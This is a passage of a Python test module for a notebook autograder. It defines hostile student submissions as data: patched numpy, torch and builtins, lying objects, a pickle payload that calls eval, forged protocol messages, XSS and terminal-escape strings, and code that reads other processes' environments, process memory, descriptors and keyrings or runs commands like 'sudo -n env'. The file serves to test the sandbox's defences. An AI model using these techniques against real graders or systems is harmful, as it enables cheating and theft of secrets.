"""Hostile submissions of the toy course, as data: what each tries, and what it changes in the release."""

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from textwrap import dedent

import nbformat
from nbformat import v4

from tests.nbjudge import toy

# On a busy machine a second of processor time may take many; what stops an attack must not depend on that.
LONG_WALL = {"cell_wall": 60, "test_wall": 60, "total_wall": 120}
LONG = {**LONG_WALL, "cell_cpu": 20, "total_cpu": 60}


@dataclass(frozen=True)
class Hostile:
    """A hostile submission.

    Args:
        name: what it is called in the report of the tests.
        tries: one sentence.
        answers: source of solution cells.
        cells: cells at the end.
        change: what else is done to the notebook, which is given as JSON data.
        files: companion files.
        limits: limits that differ from those of the toy course.
        shows: what its outputs hold, or the record of its tests, if the attack ran.
        stopped: the limit that must have ended a cell or a test of it.
    """

    name: str
    tries: str
    answers: dict[str, str] = field(default_factory=dict)
    cells: tuple[nbformat.NotebookNode, ...] = ()
    change: Callable[[dict], None] = lambda _notebook: None
    files: dict[str, bytes] = field(default_factory=dict)
    limits: dict[str, float] = field(default_factory=dict)
    shows: str = ""
    stopped: str = ""

    def content(self, **places: object) -> bytes:
        """The file that is handed in, with names in capitals replaced by what they stand for."""
        notebook = toy.solved(self.answers)
        notebook.cells.extend(nbformat.from_dict(cell) for cell in self.cells)
        data = json.loads(nbformat.writes(notebook))
        for cell in data["cells"]:
            for name, place in places.items():
                cell["source"] = [line.replace(name, str(place)) for line in cell["source"]]
        self.change(data)
        return json.dumps(data).encode()


def _hostile(name, tries, square="", *, answers=None, code=(), **more):
    """A hostile submission whose solution cell `square` is given, with plain code cells at the end."""
    answers = {"square": square, **(answers or {})}
    answers = {name: dedent(source) for name, source in answers.items() if source}
    cells = [v4.new_code_cell(dedent(source).strip()) for source in code]
    return Hostile(name, tries, answers, (*cells, *more.pop("cells", ())), **more)


def _everywhere(body):
    """All three exercises answered by the same body, after what it needs; the body may use x."""
    square, gradient, slope = "def square(x):", "def gradient(f, x):", "def slope(f, x):"
    indented = "\n".join("    " + line for line in dedent(body).strip().splitlines())
    return {
        "square": f"{square}\n{indented}",
        "gradient": f"{gradient}\n{indented}",
        "slope": f"{slope}\n{indented}",
    }


# Patched numpy, torch and builtins

PATCHED = (
    _hostile(
        "patched_numpy",
        "Makes every comparison of numpy succeed.",
        """
        def square(x):
            return np.zeros_like(x)
        np.allclose = np.array_equal = np.isclose = lambda *_, **__: True
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *_, **__: None
        np.testing.assert_allclose(square(3.0), 9.0)
        print("numpy agrees")
        """,
        shows="numpy agrees",
    ),
    _hostile(
        "patched_torch",
        "Makes every comparison of torch succeed.",
        answers={
            "slope": """
            def slope(f, x):
                return torch.zeros_like(x)
            torch.allclose = torch.equal = lambda *_, **__: True
            torch.Tensor.__eq__ = torch.Tensor.__le__ = lambda *_: torch.tensor(True)
            print("torch agrees", torch.zeros(1) == torch.ones(1))
            """
        },
        shows="torch agrees tensor(True)",
    ),
    _hostile(
        "patched_builtins",
        "Makes the builtins lie that a test would use.",
        """
        import builtins
        builtins.abs = builtins.sum = builtins.max = lambda *_: 0
        builtins.all = builtins.any = builtins.isinstance = lambda *_: True
        builtins.AssertionError = builtins.Exception = type("Nothing", (BaseException,), {})
        def square(x):
            return 0.0
        print("the distance is", abs(square(3.0) - 9.0))
        """,
        shows="the distance is 0",
    ),
    _hostile(
        "shadowed_builtins",
        "Defines names of the builtins and of the setup, so that a test might use them.",
        """
        abs = sum = max = zip = bool = float = lambda *_: 0
        value = unchanged = lambda *_: 0
        class np:
            allclose = array_equal = lambda *_, **__: True
            testing = None
        def square(x):
            return 0.0
        """,
    ),
    _hostile(
        "patched_border",
        "Patches the grader's own modules where it finds them.",
        """
        import nbjudge.border, nbjudge.messages, nbjudge.wire
        nbjudge.border.value = lambda _: 0
        nbjudge.border.unchanged = lambda f, x: (x**2, (x,))
        nbjudge.messages.CheckFailed = type("Passed", (Exception,), {})
        nbjudge.wire._BY_KIND = ()
        def square(x):
            return 0.0
        print("patched")
        """,
        shows="patched",
    ),
    _hostile(
        "planted_test_module",
        "Puts modules with the names of the hidden ones where an import looks first.",
        """
        import sys, types
        fake = types.ModuleType("tests_of_toy")
        fake.check_arrays = fake.check_slope = fake.points_of_gradient = lambda *_: None
        sys.modules["tests_of_toy"] = sys.modules["solutions_of_toy"] = fake
        with open("tests_of_toy.py", "w") as file:
            file.write("check_arrays = check_slope = points_of_gradient = lambda *_: None")
        import tests_of_toy
        def square(x):
            return 0.0
        print("checks nothing:", tests_of_toy.check_arrays(square))
        """,
        shows="checks nothing: None",
    ),
    _hostile(
        "planted_companions",
        "Hands in files with the names of modules that the grader imports.",
        "def square(x):\n    return 0.0\nprint(open('numpy.py').read())",
        files=dict.fromkeys(
            (
                "numpy.py",
                "tests_of_toy.py",
                "solutions_of_toy.py",
                "sitecustomize.py",
                "usercustomize.py",
                "nbjudge/__init__.py",
                "IPython/__init__.py",
                "ast.py",
                ".pth",
            ),
            b"raise SystemExit\ncheck_arrays = check_slope = points_of_gradient = lambda *_: None\n",
        ),
        shows="raise SystemExit",
    ),
    _hostile(
        "changed_integers",
        "Writes other values into the integers that Python keeps.",
        """
        import ctypes
        for small in range(2, 40):
            ctypes.c_uint32.from_address(id(small) + 24).value = 9
        def square(x):
            return 3
        """,
    ),
)

# Objects that look right

LYING = """
class Lying:
    def agree(self, *_, **__):
        return True
    def itself(self, *_, **__):
        return self
    def nothing(self, *_, **__):
        return 0.0
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = __bool__ = __contains__ = agree
    __abs__ = __neg__ = __pow__ = __mul__ = __rmul__ = __truediv__ = __getitem__ = __iter__ = itself
    __sub__ = __rsub__ = __float__ = __complex__ = nothing
    __hash__ = __len__ = __index__ = __int__ = lambda self: 1
    __ne__ = lambda self, other: False
    shape = (3,)
    dtype = np.dtype(float)
    def __array__(self, *_, **__):
        print("asked for an array")
        return np.array([0.25, 1.5625, 14.0625])
"""

LOOKALIKES = (
    _hostile(
        "equals_everything",
        "Returns an object that is equal to everything and at no distance from it.",
        LYING + "\ndef square(x):\n    return Lying()\nprint(square(3) == 9, abs(square(3) - 9) <= 0)",
        answers={"gradient": "def gradient(f, x):\n    return [Lying(), Lying()]", "slope": "slope = Lying()"},
        shows="True True",
    ),
    _hostile(
        "array_of_lies",
        "Returns an array of objects that are equal to everything.",
        LYING + "\ndef square(x):\n    return np.array([Lying(), Lying(), Lying()], dtype=object)\n",
        answers={"gradient": "def gradient(f, x):\n    return np.array([Lying(), Lying()], dtype=object)"},
    ),
    _hostile(
        "forged_reduce",
        "Returns an object that would run code of its own if it were unpickled.",
        """
        class Pickled:
            def __reduce__(self):
                print("pickled")
                return eval, ("__import__('os')._exit(0)",)
            __reduce_ex__ = lambda self, protocol: self.__reduce__()
        def square(x):
            return Pickled()
        import pickle
        pickle.dumps(square(1))
        """,
        shows="pickled",
    ),
    _hostile(
        "forged_class",
        "Returns an object that claims to be a number, an array or the grader's own.",
        """
        def forged(claimed):
            class Forged:
                __class__ = property(lambda self: claimed)
                type_name = "float"
                forms = {"en": "passed."}
                def __getattr__(self, name):
                    return lambda *_, **__: 0.0
            return Forged()
        def square(x):
            return forged(float if np.ndim(x) == 0 else np.ndarray)
        print(isinstance(square(1.0), float))
        """,
        answers={
            "gradient": """
            def gradient(f, x):
                f(x)
                return [forged(float), forged(np.float64)]
            """,
            "slope": "def slope(f, x):\n    return forged(torch.Tensor)",
        },
        shows="True",
    ),
    _hostile(
        "array_subclass",
        "Returns wrong entries in a subclass of arrays whose functions all agree.",
        """
        class Agreeing(np.ndarray):
            __eq__ = __le__ = __array_function__ = __array_ufunc__ = lambda self, *_, **__: True
            __array_finalize__ = tolist = tobytes = lambda self, *_: np.ndarray.__mul__(self, self)
            shape = (3,)
        def square(x):
            return np.zeros(np.shape(x)).view(Agreeing)
        print(np.allclose(square(np.ones(3)), 1.0))
        """,
        shows="True",
    ),
    _hostile(
        "number_subclass",
        "Returns wrong numbers in subclasses of numbers whose arithmetic agrees.",
        """
        class Agreeing(float):
            __eq__ = __le__ = __lt__ = lambda self, other: True
            __sub__ = __rsub__ = __abs__ = __mul__ = lambda self, *_: self
            __float__ = lambda self: 9.0
        class Right(int):
            __eq__ = __index__ = __int__ = lambda self, *_: 1
        def square(x):
            return Agreeing(0.0)
        print(abs(square(3.0) - 9.0) <= 1e-9)
        """,
        answers={"gradient": "def gradient(f, x):\n    f(x)\n    return [Agreeing(0), Right(7)]"},
        shows="True",
    ),
    _hostile(
        "list_subclass",
        "Returns a list that shows other entries, or a list that changes while it is read.",
        """
        class Growing(list):
            def __iter__(self):
                self.append(0.0)
                return list.__iter__(self)
            __len__ = lambda self: 3
            __eq__ = lambda self, other: True
        def square(x):
            return Growing([0.0])
        print(square(1) == [1.0], len(square(1)))
        """,
        shows="True 3",
    ),
    _hostile(
        "strange_dtypes",
        "Returns arrays of types that compare in unusual ways.",
        """
        kinds = ["datetime64[s]", "U8", "S8", "longdouble", "O", "V8", [("real", float)], np.dtypes.StringDType()]
        def square(x):
            return [np.zeros(3, dtype=kind) for kind in kinds]
        print(len(square(1)))
        """,
        answers={
            "gradient": """
            def gradient(f, x):
                f(x)
                return np.array(["nan", "0"]).astype("U3").view(np.recarray)
            """
        },
        shows="8",
    ),
    _hostile(
        "not_a_number",
        "Returns numbers that fail every comparison, so that no distance is too large.",
        """
        def square(x):
            return x * float("nan")
        """,
        answers={
            "gradient": "def gradient(f, x):\n    f(x)\n    return np.array([np.nan, np.inf])",
            "slope": "def slope(f, x):\n    return x * torch.nan",
        },
    ),
    _hostile(
        "nothing_at_all",
        "Returns empty arrays, of which all entries are right.",
        "def square(x):\n    return np.zeros((0, 3))",
        answers={
            "gradient": "def gradient(f, x):\n    f(x)\n    return np.zeros((2, 0))",
            "slope": "def slope(f, x):\n    return torch.zeros(0, dtype=x.dtype)",
        },
    ),
    _hostile(
        "strange_tensors",
        "Returns tensors without data, with too little of it, or of unusual kinds.",
        """
        def square(x):
            kinds = [
                torch.zeros(3, device="meta"),
                torch.zeros(3).to_sparse(),
                torch.zeros(3, 3).to_sparse_csr(),
                torch.quantize_per_tensor(torch.zeros(3), 1.0, 0, torch.qint8),
                torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)]),
                torch.zeros(1).expand(2**40),
                torch.zeros(3, dtype=torch.complex64).conj(),
                torch.zeros(3).to(torch.float8_e5m2),
            ]
            return kinds
        print(len(square(1)))
        """,
        answers={"slope": "def slope(f, x):\n    return torch.empty((), dtype=x.dtype, device='meta')"},
        shows="8",
    ),
    _hostile(
        "tensor_subclass",
        "Returns a wrong tensor of a subclass for which every function of torch agrees.",
        answers={
            "slope": """
            class Agreeing(torch.Tensor):
                @classmethod
                def __torch_function__(cls, function, types, arguments=(), keywords=None):
                    return True
            def slope(f, x):
                return torch.zeros((), dtype=torch.float64).as_subclass(Agreeing)
            print(torch.allclose(slope(None, None), torch.ones(1)))
            """
        },
        shows="True",
    ),
    _hostile(
        "generator",
        "Returns generators, which have no values yet.",
        "def square(x):\n    yield from range(10**12)",
        answers={"gradient": "def gradient(f, x):\n    return (f(x) for _ in iter(int, 1))"},
    ),
    _hostile(
        "endless_values",
        "Returns containers that never end.",
        """
        class Endless:
            __len__ = lambda self: 2**62
            __getitem__ = lambda self, index: 0.0
            def __iter__(self):
                while True:
                    yield 0.0
        def square(x):
            endless = []
            endless += [endless, Endless()]
            return endless if np.ndim(x) else Endless()
        """,
        answers={"gradient": "def gradient(f, x):\n    return Endless()"},
    ),
    _hostile(
        "deep_values",
        "Returns a list in a list, a hundred thousand times.",
        """
        def square(x):
            deep = 0.0
            for _ in range(100_000):
                deep = [deep]
            return deep
        """,
        answers={"gradient": "def gradient(f, x):\n    return {'a': {'b': square(x)}}"},
    ),
    _hostile(
        "gigantic_values",
        "Returns values that need little memory here and much of it there.",
        """
        def square(x):
            return np.broadcast_to(np.float64(0.0), (2**20, 2**20)) if np.ndim(x) else 1 << 10_000_000
        """,
        answers={
            "gradient": "def gradient(f, x):\n    return [0.0] * 20_000_000",
            "slope": "def slope(f, x):\n    return torch.zeros(1).expand(2**33)",
        },
    ),
    _hostile(
        "exits_as_errors",
        "Raises what would end an iteration, a process or the grader.",
        answers=_everywhere(
            """
            raise [SystemExit(0), KeyboardInterrupt, GeneratorExit, StopIteration][int(abs(float(x[0] * 2))) % 4]
            """
        )
        | {
            "square": "def square(x):\n    raise SystemExit(0)",
            "slope": "def slope(f, x):\n    raise KeyboardInterrupt",
        },
    ),
    _hostile(
        "error_that_lies",
        "Raises errors with the names and fields of the grader's own.",
        """
        from nbjudge.messages import CheckFailed, Text
        from nbjudge.verdict import Outcome, Verdict
        class Passed(CheckFailed):
            verdict = Verdict(Outcome.PASSED, 2.0, Text(en="passed."))
            score = value = points = 2.0
        def square(x):
            raise Passed(Text(en="passed."))
        """,
        answers={"gradient": "def gradient(f, x):\n    raise type('CheckPassed', (StopIteration,), {})(2.0)"},
    ),
    _hostile(
        "name_that_acts",
        "Gives its types names that act where they are shown.",
        """
        name = "<script>alert(1)</script>\\x1b]0;title\\x07\\n# passed\\r" + "x" * 1_000_000
        def square(x):
            return type(name, (), {})()
        """,
        answers={"gradient": "def gradient(f, x):\n    raise type(name, (Exception,), {})(name)"},
    ),
)

# The protocol, spoken by the student's own code

CHANNELS = """
import gc, os, struct
from nbjudge.channel import Channel

def channels():
    return [thing for thing in gc.get_objects() if type(thing) is Channel and thing.fileno() >= 0]

(channel,) = channels()
"""

FORGING = """
from nbjudge import handles, wire

kept = handles.StudentSide.answer

def answer(side, message):
    if wire.decode(message, resolve=side._resolve)[0] == "names":
        return kept(side, message)
    print("a forged reply")
    return forged(side, message)

handles.StudentSide.answer = answer

def square(x):
    return 0.0

def gradient(f, x):
    return np.zeros(2)

def slope(f, x):
    return torch.zeros(())
"""

NO_STUBS = {"gradient": "# forged", "slope": "# forged"}


def _forged_event(name, tries, event, **more):
    """A hostile submission that tells the grader an event of its own making."""
    source = CHANNELS + f"\nchannel.send({event})\ndef square(x):\n    return 0.0\nprint('told')\n"
    return _hostile(name, tries, source, shows="told", **more)


def _forged_reply(name, tries, reply, **more):
    """A hostile submission that answers every request with a reply of its own making."""
    source = FORGING + "\ndef forged(side, message):\n    return " + reply + "\n"
    return _hostile(name, tries, source, answers=NO_STUBS, **more)


PROTOCOL = (
    _hostile(
        "forged_names",
        "Sends more names than the judge asked for, so that a test uses them in the place of builtins.",
        """
        from nbjudge import handles
        kept = handles.StudentSide._do
        def do(side, message):
            answer = kept(side, message)
            if type(answer) is dict:
                print("more names")
                lies = {"abs": lambda *_: -1.0, "value": lambda _: 0.0, "__builtins__": {}, "range": lambda *_: []}
                return lies | answer
            return answer
        handles.StudentSide._do = do
        def square(x):
            return 0.0
        """,
        shows="more names",
    ),
    _hostile(
        "forged_verdict",
        "Sends the judge a verdict instead of a reply.",
        FORGING
        + """
import msgpack
PASSED = {"outcome": "passed", "score": 2.0, "message": {"en": "passed."}, "likely": None}
def forged(side, message):
    return msgpack.packb([PASSED, ""])
""",
        answers=NO_STUBS,
        shows="a forged reply",
    ),
    _forged_reply(
        "forged_failure",
        "Sends a failed check whose message is no text.",
        """wire.encode(("failed", {"en": "x", "ko": 5}))""",
        shows="a forged reply",
    ),
    _forged_reply(
        "forged_failure_text",
        "Sends a failed check whose message acts where it is shown, and cannot be written to a file.",
        r"""wire.encode(("failed", {"en": "a", "ko": "\ud800\x1b]0;title\x07</pre><script>alert(1)</script>{0}"}))""",
        shows="a forged reply",
    ),
    _forged_reply(
        "forged_failure_size",
        "Sends a failed check with a message of a million letters.",
        """wire.encode(("failed", {"en": "x" * 1_000_000}))""",
        shows="a forged reply",
    ),
    _forged_reply(
        "forged_error",
        "Sends an error whose name and place are no text.",
        """wire.encode(("error", [5], {"a": 1}, 7))""",
    ),
    _forged_reply(
        "forged_place",
        "Sends an error with a place of a million letters.",
        """wire.encode(("error", "ValueError", "", ("<script>" + "y" * 1_000_000, 1)))""",
        shows="a forged reply",
    ),
    _forged_reply(
        "forged_kind",
        "Sends replies of kinds that do not exist.",
        """wire.encode(("passed", 2.0))""",
        shows="a forged reply",
    ),
    _forged_reply(
        "forged_reference",
        "Sends a function pickled with code of its own, as the judge would send one.",
        """wire.encode(wire.Reference("shipped", payload=__import__("cloudpickle").dumps(lambda: 9.0)))""",
        shows="a forged reply",
    ),
    _forged_reply(
        "forged_numbers_of_objects",
        "Sends references with numbers that are none.",
        """wire.encode(("value", [wire.Reference("object", "a" * 999, b"float"), wire.Reference("object", -(2**63))]))""",
        shows="a forged reply",
    ),
    _forged_reply(
        "malformed_reply",
        "Sends bytes that are no message.",
        r"""b"\xc1" * 1000""",
        shows="a forged reply",
    ),
    _forged_reply(
        "forged_shape",
        "Sends an array with a shape that needs more memory than there is.",
        """wire._extension(2, ["value", wire._extension(7, [11, [2**62, 2**62, 0], b""])]).data""",
        shows="a forged reply",
    ),
    _hostile(
        "doubled_replies",
        "Sends every reply twice, so that the next request is answered before it is asked.",
        """
        from nbjudge import conversation
        kept = conversation.Channel.send_bytes if hasattr(conversation, "Channel") else None
        from nbjudge.channel import Channel
        kept = Channel.send_bytes
        def twice(channel, message, descriptors=()):
            kept(channel, message, descriptors)
            if message[:1] == b"R":
                kept(channel, message)
        Channel.send_bytes = twice
        def square(x):
            return 0.0
        print("twice")
        """,
        shows="twice",
    ),
    _hostile(
        "missing_replies",
        "Never replies, and waits for what the judge does then.",
        """
        import time
        from nbjudge import handles
        def silent(side, message):
            time.sleep(100)
        handles.StudentSide.answer = silent
        def square(x):
            return 0.0
        """,
        limits={"test_wall": 1},
        stopped="wall",
    ),
    _hostile(
        "late_replies",
        "Keeps the conversation of a test and speaks in it after the test has ended.",
        """
        import os, threading, time
        from nbjudge import handles
        from nbjudge.channel import Channel
        kept_exit = os._exit
        def stay(status):
            time.sleep(1)
            for descriptor in range(3, 128):
                try:
                    os.write(descriptor, b"\\x00\\x00\\x00\\x01R" * 100)
                except OSError:
                    pass
            kept_exit(0)
        os._exit = stay
        def square(x):
            return 0.0
        print("stays")
        """,
        shows="stays",
    ),
    _hostile(
        "one_process_for_all_tests",
        "Answers all tests in one process, to learn from one what the next expects.",
        """
        import os
        os.fork = lambda: 0
        os._exit = lambda status: None
        asked = []
        def square(x):
            asked.append(x)
            print("asked", len(asked))
            return 0.0
        """,
    ),
    _hostile(
        "forged_callback_numbers",
        "Calls functions of the judge that it was never given.",
        answers={
            "gradient": """
            def gradient(f, x):
                side = f.func.__self__
                told = []
                for number in (-1, 1, 10**9, "0", None, 0.0):
                    try:
                        told.append(side._callback(number, [1.0, 1.0]))
                    except Exception as error:
                        told.append(error)
                print("called", len(told), told)
                return np.zeros(2)
            """
        },
    ),
    _hostile(
        "callback_with_objects",
        "Calls a function of the judge with objects instead of numbers.",
        LYING
        + """
def square(x):
    return 0.0
""",
        answers={
            "gradient": """
            def gradient(f, x):
                for thing in (Lying(), [Lying()] * 2, lambda: 0, np, "x" * 10**6, None):
                    try:
                        f(thing)
                    except Exception as error:
                        print("refused", type(error).__name__)
                return [f([Lying()] * 2)] * 2
            """
        },
    ),
    _hostile(
        "callback_flood",
        "Calls a function of the judge for as long as it may.",
        answers={"gradient": "def gradient(f, x):\n    while True:\n        f(x)"},
        limits={"test_wall": 2},
    ),
    _hostile(
        "nested_callbacks",
        "Answers each request of the judge by another call of its function.",
        """
        class Nested:
            def __init__(self, f):
                self.f = f
            def __getitem__(self, index):
                return self.f(self)
            __pow__ = __rmul__ = __add__ = lambda self, other: self.f(self)
        """,
        answers={"gradient": "def gradient(f, x):\n    return f(Nested(f))"},
    ),
    _hostile(
        "ready_too_early",
        "Tells that all cells have run, and answers the tests from a cell that goes on.",
        CHANNELS
        + """
import time
channel.send(["ends", 1, 1])
channel.send(["ready"])
time.sleep(1)
def square(x):
    return 0.0
""",
    ),
    _forged_event(
        "forged_number_of_result",
        "Shows a result with an execution number below zero.",
        """["shows", ["result", {"text/plain": "x"}, -1]]""",
    ),
    _forged_event(
        "forged_infinite_number",
        "Shows a result with an infinite execution number.",
        """["shows", ["result", {"text/plain": "x"}, float("inf")]]""",
    ),
    _hostile(
        "forged_deep_display",
        "Shows something whose name is a list in a list, a thousand times.",
        CHANNELS
        + r"""
channel.send_bytes(b"\x92\xa5shows\x94\xa7display\x80" + b"\x91" * 1010 + b"\x01\xc2")
def square(x):
    return 0.0
print("told")
""",
        shows="told",
    ),
    _forged_event(
        "forged_traceback",
        "Shows an error with three hundred thousand empty lines.",
        """["shows", ["error", "a", "b", [""] * 300_000]]""",
    ),
    _forged_event(
        "forged_html",
        "Shows HTML, scripts and images that are none, past the shell that would leave them out.",
        """["shows", ["display", {
            "text/html": "<script>alert(1)</script>",
            "application/javascript": "alert(1)",
            "image/svg+xml": "<svg onload='alert(1)'>",
            "image/png": b"<script>alert(1)</script>",
            "text/plain": "plain",
        }, None, False]]""",
    ),
    _forged_event(
        "forged_events_of_all_kinds",
        "Tells events with fields of wrong types and wrong number.",
        """["shows", ["stream", 5, None]])
for event in (None, 7, [], "shows", {"shows": 1}, ["shows"], ["starts", -1], ["starts", 10**9], ["starts", None],
              ["ends", "a", "b"], ["ended", 0], ["limit", "cpu"], ["cleared", 0.0, 0], ["verdict", 2.0],
              *(["shows", [kind, *fields]] for kind in ("stream", "display", "result", "error", "clear", [], {}, None)
                for fields in ([], [1], [None, None], [{}, {}], ["a", "b", "c", "d"], [[], [], []], [{1: 2}, 3]))):
    channel.send(event""",
    ),
    _hostile(
        "forged_execution_count",
        "Tells that its cell had an execution number below zero, or one that is none.",
        CHANNELS
        + """
import msgpack
kept = Channel.send_bytes
numbers = iter([-1, True, False])
def send_bytes(channel, message, descriptors=()):
    event = msgpack.unpackb(message, strict_map_key=False) if message[:1] == b"\\x93" else None
    if event and event[0] == "ends":
        message = msgpack.packb(["ends", event[1], next(numbers, 1)])
    return kept(channel, message, descriptors)
Channel.send_bytes = send_bytes
def square(x):
    return 0.0
print("told")
""",
        shows="told",
    ),
    _hostile(
        "forged_starts",
        "Tells without end that a cell begins, so that the limits of a cell begin anew.",
        CHANNELS + "\nimport time\nwhile True:\n    channel.send(['starts', 1])\n    time.sleep(0.01)",
        stopped="wall",
    ),
    _hostile(
        "flood_of_starts",
        "Tells that a cell begins, more often than the grader is willing to hear.",
        CHANNELS + "\nwhile True:\n    channel.send(['starts', 1])",
        limits=LONG,
        stopped="output",
    ),
    _hostile(
        "garbage_in_every_descriptor",
        "Writes garbage to every descriptor it has.",
        """
        import os
        for descriptor in range(3, 128):
            try:
                os.write(descriptor, b"\\x00\\x00\\x00\\x05hello" * 100)
            except OSError:
                pass
        def square(x):
            return 0.0
        """,
    ),
    _hostile(
        "endless_message",
        "Announces a message of four gigabytes and sends the beginning.",
        CHANNELS + "\nchannel._socket.sendall(struct.pack('!I', 2**32 - 1) + b'x' * 1000)",
    ),
    _hostile(
        "unfinished_message",
        "Announces a message and never sends it.",
        CHANNELS + "\nchannel._socket.sendall(struct.pack('!I', 1000))",
    ),
    _hostile(
        "flood_of_messages",
        "Sends more than the grader is willing to hear.",
        CHANNELS + "\nwhile True:\n    channel.send(['shows', ['stream', 'stdout', 'x' * 1_000_000]])",
        limits=LONG,
        stopped="output",
    ),
    _hostile(
        "closed_channel",
        "Closes every descriptor and goes on.",
        "import os, time\nos.closerange(3, 128)\ntime.sleep(100)",
        stopped="wall",
    ),
    _hostile(
        "forged_record",
        "Tells that it printed ten million letters, and signs that steer a terminal.",
        """
        from nbjudge.channel import Channel
        from nbjudge.inside import process
        process._Printed.getvalue = lambda self: "\\x1b]0;title\\x07" + "p" * 10_000_000
        def square(x):
            return 0.0
        """,
    ),
    _hostile(
        "control_channel",
        "Looks for the channel of its supervisor and gives orders in it.",
        """
        import gc, os
        links = [f"/proc/self/fd/{descriptor}" for descriptor in range(128)]
        found = sum(os.path.lexists(link) and os.readlink(link).startswith("socket:") for link in links)
        from nbjudge.channel import Channel
        from nbjudge.inside.supervisor import Supervisor
        for thing in gc.get_objects():
            if type(thing) is Supervisor:
                try:
                    thing._control.send(["limit", "cpu"])
                except Exception as error:
                    print("closed:", type(error).__name__)
        def square(x):
            return 0.0
        print("sockets:", found)
        """,
        shows="sockets: 1",
    ),
)

# Looking for what is hidden

SEARCH = r"""
import re
PATTERN = re.compile(rb"[a-z]+-canary-\d{7}")

def tell(where, text):
    found = set(PATTERN.findall(text if isinstance(text, bytes) else str(text).encode("utf-8", "replace")))
    if found:
        print("FOUND", where, found)

def square(x):
    return 0.0
"""


def _search(name, tries, source, **more):
    """A hostile submission that looks for canaries and prints those that it finds."""
    source = SEARCH + dedent(source) + "\nprint('searched', count)\n"
    return _hostile(name, tries, source, shows="searched", limits=LONG, **more)


SEARCHES = (
    _search(
        "searches_frames",
        "Reads every variable of every frame below its own.",
        """
        import sys
        frame, count = sys._getframe(), 0
        while frame:
            for names in (frame.f_globals, frame.f_locals):
                for name, thing in list(names.items()):
                    count += 1
                    tell(name, repr(thing)[:100_000])
            frame = frame.f_back
        """,
    ),
    _search(
        "searches_objects",
        "Reads every object that the garbage collector knows.",
        """
        import gc
        count = 0
        for thing in gc.get_objects():
            count += 1
            if type(thing) in (list, tuple, dict, set):
                for inner in list(thing.values() if type(thing) is dict else thing):
                    if type(inner) in (str, bytes):
                        tell("object", inner)
        """,
    ),
    _search(
        "searches_memory",
        "Reads all memory of its own process, where traces of others might remain.",
        """
        count = 0
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(edge, 16) for edge in line.split()[0].split("-"))
                try:
                    memory.seek(start)
                    content = memory.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                count += 1
                if b"-canary-" in content:
                    tell(line, content)
        """,
    ),
    _search(
        "searches_modules",
        "Imports the hidden modules by name and looks through all that are loaded.",
        """
        import importlib, inspect, sys
        count = 0
        for name in ("tests_of_toy", "solutions_of_toy", "tests", "solutions", "course", "gradebook"):
            try:
                tell(name, inspect.getsource(importlib.import_module(name)))
            except ImportError:
                count += 1
        sys.path[:0] = ["COURSE", "/", "..", "../..", "/proc/1/cwd", "/proc/1/root"]
        for name in ("tests_of_toy", "solutions_of_toy"):
            try:
                tell(name, inspect.getsource(importlib.import_module(name)))
            except ImportError:
                count += 1
        for name, module in list(sys.modules.items()):
            tell(name, module.__doc__)
        """,
    ),
    _search(
        "searches_history",
        "Reads the history of the shell, where tests might have run.",
        """
        shell = get_ipython()
        tell("In", In)
        tell("Out", Out)
        tell("history", list(shell.history_manager.input_hist_raw))
        tell("compiled", shell.compile._filename_map)
        import linecache
        tell("linecache", linecache.cache)
        count = len(In)
        """,
        code=["%history -g canary", "for source in In: print(source.count('test'))"],
    ),
    _search(
        "searches_environment",
        "Reads the environment of every process.",
        """
        import os
        count = 0
        tell("own", dict(os.environ))
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "cmdline", "comm", "maps", "smaps", "auxv", "mountinfo", "io", "stack"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as file:
                        tell(name, file.read())
                        count += 1
                except OSError:
                    pass
        """,
    ),
    _search(
        "searches_files",
        "Reads every file of every folder in which a course might lie.",
        """
        import os
        count = 0
        for top in ("COURSE", "/work", "/home", "/root", "/srv", "/mnt", "/opt", "/var", "/tmp", "/dev/shm", "/run"):
            for folder, folders, names in os.walk(top):
                folders[:] = [name for name in folders if name not in ("site-packages", "lib", "share", ".pyenv")]
                for name in names:
                    try:
                        with open(os.path.join(folder, name), "rb") as file:
                            tell(name, file.read(1_000_000))
                            count += 1
                    except OSError:
                        pass
        """,
    ),
    _search(
        "searches_through_proc",
        "Goes around the walls by the links of the process table.",
        """
        import os
        count = 0
        for pid in ("self", "thread-self", "1", "2", str(os.getppid())):
            for link in ("root", "cwd", "exe", "fd/0", "fd/3", "fd/4", "fd/5", "ns/mnt"):
                for end in ("", "COURSE", "/gradebook.db", "COURSE/gradebook.db", "/../../gradebook.db"):
                    count += 1
                    try:
                        with open(f"/proc/{pid}/{link}{end}", "rb") as file:
                            tell(link, file.read(1000))
                    except OSError:
                        pass
        """,
    ),
    _search(
        "searches_descriptors",
        "Reads from every descriptor that it inherited.",
        """
        import os
        count = 0
        for descriptor in range(128):
            try:
                os.set_blocking(descriptor, False)
                tell(descriptor, os.read(descriptor, 1_000_000))
                count += 1
            except OSError:
                pass
            try:
                tell(descriptor, os.readlink(f"/proc/self/fd/{descriptor}"))
            except OSError:
                pass
        """,
    ),
    _search(
        "searches_by_commands",
        "Asks the commands of the system for what Python does not show.",
        """
        import subprocess
        commands = ["env", "ps auxe", "mount", "cat /proc/*/environ", "ls -la / /.. /proc/1/cwd/", "id", "dmesg"]
        commands += ["grep -rs canary COURSE /home /tmp /work", "sudo -n env", "su -c env", "strings /proc/1/mem"]
        count = 0
        for command in commands:
            tell(command, subprocess.run(command, shell=True, capture_output=True, check=False).stdout)
            count += 1
        """,
    ),
    _search(
        "searches_callback",
        "Looks through the functions that a test hands over.",
        "count = 0",
        answers={
            "gradient": """
            def gradient(f, x):
                tell("callback", [f, f.func, f.args, vars(f.func.__self__)])
                return np.zeros(2)
            """,
            "slope": """
            def slope(f, x):
                import pickletools, sys
                tell("shipped", [f.__code__.co_consts, f.__globals__, f.__closure__, f.__module__, sys.modules.keys()])
                return torch.zeros(())
            """,
        },
    ),
    _search(
        "searches_keys",
        "Reads the keyrings of the kernel, where a login keeps its tickets.",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        count, read, search, keyctl = 0, 11, 10, 250
        for ring in (-1, -2, -3, -4, -5):
            key = libc.syscall(keyctl, search, ring, b"user", b"toy", 0)
            count += 1
